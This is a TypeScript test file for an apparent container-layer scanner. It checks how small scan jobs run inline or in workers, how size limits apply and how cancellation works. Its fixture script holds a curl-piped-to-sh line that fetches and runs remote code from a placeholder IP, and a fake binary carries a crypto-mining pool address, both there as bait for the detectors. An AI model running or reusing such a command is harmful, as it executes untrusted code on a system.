import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { elf } from '../../../testkit/elf.ts';
import { type TarItem, tar } from '../../../testkit/tar.ts';
import { DEFAULT_LIMITS } from '../../base/limits.ts';
import { DETECTORS } from '../../detect/index.ts';
import type { LayerJob } from './layer-job.ts';
import { runLayerJob } from './run-layer-job.ts';
import { SmallJobs } from './small-jobs.ts';

let root = '';
beforeAll(() => {
  root = mkdtempSync(join(tmpdir(), 'clearpull-small-'));
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

let serial = 0;
function jobOf(...items: readonly TarItem[]): LayerJob {
  const bytes = tar(items);
  const path = join(root, `layer-${serial++}`);
  writeFileSync(path, bytes);
  return {
    input: { kind: 'file', path, offset: 0, size: bytes.length },
    expected: {},
    limits: DEFAULT_LIMITS,
    detectors: DETECTORS.filter(({ inspect, texts }) => inspect ?? texts).map(({ id }) => id),
    progress: new BigInt64Array(new SharedArrayBuffer(8)),
  };
}

/** Those that went on to a worker, by what there was to be done. */
function smallJobs(): { readonly small: SmallJobs; readonly sent: string[] } {
  const sent: string[] = [];
  const small = new SmallJobs({
    run: (job) => {
      sent.push(job.input.kind);
      return runLayerJob(job);
    },
  });
  return { small, sent };
}

const START: TarItem = {
  path: 'run.sh',
  data: '#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n',
  mode: 0o755,
};

describe('a small job', () => {
  it('comes to what it does in a worker, byte for byte, without one', async () => {
    const job = jobOf(START, { path: 'bin/a', data: elf({ extra: 'stratum+tcp://pool.example.com:3333' }) });
    const { small, sent } = smallJobs();
    expect(small.take(job)).toBe(true);
    const outcome = await small.run(job, undefined);
    expect(outcome).toEqual(await runLayerJob(job));
    const seen = Object.values(outcome.observations).map((bytes) => Buffer.from(bytes).toString());
    expect(seen.join()).toContain('198.51.100.7');
    expect(sent).toEqual([]);
  });

  it('has a worker look into many texts, for that cannot be interrupted', async () => {
    const many = Array.from({ length: 20 }, (_, i) => ({
      path: `opt/${i}.sh`,
      data: `#!/bin/sh\necho ${i}\n${'# a word\n'.repeat(1000)}`,
    }));
    const job = jobOf(START, ...many);
    const { small, sent } = smallJobs();
    expect(small.take(job)).toBe(true);
    expect(await small.run(job, undefined)).toEqual(await runLayerJob(job));
    expect(sent).toEqual(['parts']);
  });

  it('is not one that is large, of unknown size, or one too many', () => {
    const { small } = smallJobs();
    const third = jobOf({ path: 'data', data: Buffer.alloc(200 * 1024) });
    const { port1, port2 } = new MessageChannel();
    port1.close();
    const streamed: LayerJob = { ...third, input: { kind: 'port', port: port2 } };
    expect(small.take(jobOf({ path: 'data', data: Buffer.alloc(600 * 1024) }))).toBe(false);
    expect(small.take(streamed)).toBe(false);
    expect(small.take({ ...streamed, expected: { size: 100 } })).toBe(true);
    expect([small.take(third), small.take(third), small.take(third)]).toEqual([true, true, false]);
  });

  it('is not begun once what asked for it has been stopped', async () => {
    const { small } = smallJobs();
    const job = jobOf(START);
    await expect(small.run(job, AbortSignal.abort())).rejects.toMatchObject({ name: 'AbortError' });
    // Nor does it keep the next one from being done.
    expect(await small.run(job, undefined)).toEqual(await runLayerJob(job));
  });
});
